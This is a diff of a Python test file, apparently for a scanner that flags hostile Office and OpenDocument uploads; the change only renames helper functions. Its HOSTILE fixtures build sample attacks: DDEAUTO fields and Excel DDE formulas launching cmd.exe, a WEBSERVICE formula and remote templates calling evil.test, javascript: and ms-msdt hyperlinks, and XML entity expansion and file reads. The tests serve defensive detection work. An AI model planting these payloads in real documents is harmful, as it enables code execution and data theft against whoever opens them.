@@ -130,7 +130,7 @@ def _typed(content: bytes, old: str, new: str) -> bytes:
     return remade(content, change={"[Content_Types].xml": (old.encode(), new.encode())})
 
 
-def _related(content: bytes, part: str, kind: str, target: str, mode: str = "External") -> bytes:
+def related(content: bytes, part: str, kind: str, target: str, mode: str = "External") -> bytes:
     relation = (
         f'<Relationship Id="rIdX" Type="{_RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
     )
@@ -147,18 +147,18 @@ def _typed_anew(make: Callable[[], bytes], old: str, new: str) -> bytes:
 
 
 def _fetching(kind: str) -> bytes:
-    return _related(word(), "word/_rels/document.xml.rels", kind, REMOTE)
+    return related(word(), "word/_rels/document.xml.rels", kind, REMOTE)
 
 
-def _in_word(xml: str) -> bytes:
+def in_word(xml: str) -> bytes:
     return remade(word(), change={"word/document.xml": (b"<w:sectPr", xml.encode() + b"<w:sectPr")})
 
 
-def _in_excel(formula: str) -> bytes:
+def in_excel(formula: str) -> bytes:
     return remade(excel(), change={"xl/worksheets/sheet1.xml": (b"SUM(B2:B3)", formula.encode())})
 
 
-def _instruction(*pieces: str) -> str:
+def instruction(*pieces: str) -> str:
     runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
     return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'
 
@@ -180,7 +180,7 @@ HONEST = [
     Case("a document", "背影.docx", word, declared="application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
     Case("a workbook", "成绩.xlsx", excel, declared="application/zip"),
     Case("a presentation with a vector picture", "a.pptx", lambda: remade(pptx(), add={"ppt/media/image9.svg": _SVG})),
-    Case("a document with a link", "a.docx", lambda: _related(word(), "word/_rels/document.xml.rels", "hyperlink", "https://www.moe.gov.cn/")),
+    Case("a document with a link", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "hyperlink", "https://www.moe.gov.cn/")),
     Case("an OpenDocument text", "岳阳楼记.odt", odt, declared="application/vnd.oasis.opendocument.text"),
     Case("an OpenDocument presentation", "折射.odp", odp),
     Case("a ZIP of documents", "a.zip", lambda: zipped({"教案.docx": word(), "课件.pptx": pptx(), "图.png": picture("PNG")})),
@@ -211,17 +211,17 @@ HOSTILE = [
     *(Case(f"a {name} whose XML laughs", f"a.{name}", partial(_with, make, "customXml/item9.xml", _LAUGHS), "xml-entities") for name, make in (("pptx", pptx), ("docx", word), ("xlsx", excel), ("odt", odt), ("odp", odp))),
     *(Case(f"a {name} that reads a file", f"a.{name}", partial(_with, make, "customXml/item9.xml", _OUTSIDE), "xml-entities") for name, make in (("pptx", pptx), ("docx", word), ("odt", odt))),
     Case("a template from elsewhere", "a.docx", lambda: remade(word(), add={"word/_rels/settings.xml.rels": f'<Relationships xmlns="x"><Relationship Id="r" Type="{_RELATION}/attachedTemplate" Target="{REMOTE}" TargetMode="External"/></Relationships>'.encode()}), "external-reference"),
-    Case("a template on a share", "a.docx", lambda: _related(word(), "word/_rels/document.xml.rels", "attachedTemplate", "\\\\evil.test\\t.dotm", "Internal"), "external-reference"),
-    Case("a link to a script", "a.docx", lambda: _related(word(), "word/_rels/document.xml.rels", "hyperlink", "javascript:alert(1)"), "action"),
-    Case("a link to a program", "a.docx", lambda: _related(word(), "word/_rels/document.xml.rels", "hyperlink", "file:///C:/Windows/System32/calc.exe"), "action"),
-    Case("a link to a handler", "a.docx", lambda: _related(word(), "word/_rels/document.xml.rels", "hyperlink", "ms-msdt:/id PCWDiagnostic"), "action"),
-    Case("a DDE field", "a.docx", lambda: _in_word(_instruction('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "dde"),
-    Case("a DDE field in pieces", "a.docx", lambda: _in_word(_instruction("D", "DE", "AUTO c:\\\\cmd.exe")), "dde"),
-    Case("a DDE field that is simple", "a.docx", lambda: _in_word('<w:p><w:fldSimple w:instr="DDE excel book A1"/></w:p>'), "dde"),
-    Case("a field that fetches a picture", "a.docx", lambda: _in_word(_instruction(f"INCLUDEPICTURE {REMOTE} \\d")), "external-reference"),
-    Case("a chunk of HTML", "a.docx", lambda: _in_word('<w:altChunk r:id="rId9"/>'), "embedded-file"),
-    Case("a formula that runs a program", "a.xlsx", lambda: _in_excel("cmd|&apos;/C calc&apos;!A0"), "dde"),
-    Case("a formula that sends data", "a.xlsx", lambda: _in_excel("WEBSERVICE(&quot;http://evil.test&quot;)"), "action"),
+    Case("a template on a share", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "attachedTemplate", "\\\\evil.test\\t.dotm", "Internal"), "external-reference"),
+    Case("a link to a script", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "hyperlink", "javascript:alert(1)"), "action"),
+    Case("a link to a program", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "hyperlink", "file:///C:/Windows/System32/calc.exe"), "action"),
+    Case("a link to a handler", "a.docx", lambda: related(word(), "word/_rels/document.xml.rels", "hyperlink", "ms-msdt:/id PCWDiagnostic"), "action"),
+    Case("a DDE field", "a.docx", lambda: in_word(instruction('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "dde"),
+    Case("a DDE field in pieces", "a.docx", lambda: in_word(instruction("D", "DE", "AUTO c:\\\\cmd.exe")), "dde"),
+    Case("a DDE field that is simple", "a.docx", lambda: in_word('<w:p><w:fldSimple w:instr="DDE excel book A1"/></w:p>'), "dde"),
+    Case("a field that fetches a picture", "a.docx", lambda: in_word(instruction(f"INCLUDEPICTURE {REMOTE} \\d")), "external-reference"),
+    Case("a chunk of HTML", "a.docx", lambda: in_word('<w:altChunk r:id="rId9"/>'), "embedded-file"),
+    Case("a formula that runs a program", "a.xlsx", lambda: in_excel("cmd|&apos;/C calc&apos;!A0"), "dde"),
+    Case("a formula that sends data", "a.xlsx", lambda: in_excel("WEBSERVICE(&quot;http://evil.test&quot;)"), "action"),
     Case("a workbook that reads another", "a.xlsx", lambda: remade(excel(), add={"xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="x"><Relationship Id="r" Type="{_RELATION}/externalLinkPath" Target="{REMOTE}" TargetMode="External"/></Relationships>'.encode()}), "external-reference"),
     Case("a workbook with a DDE link", "a.xlsx", lambda: remade(excel(), add={"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}), "dde"),
     Case("a workbook with a macro sheet", "a.xlsx", lambda: _typed(excel(), "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet", "application/vnd.ms-excel.macrosheet"), "macro"),
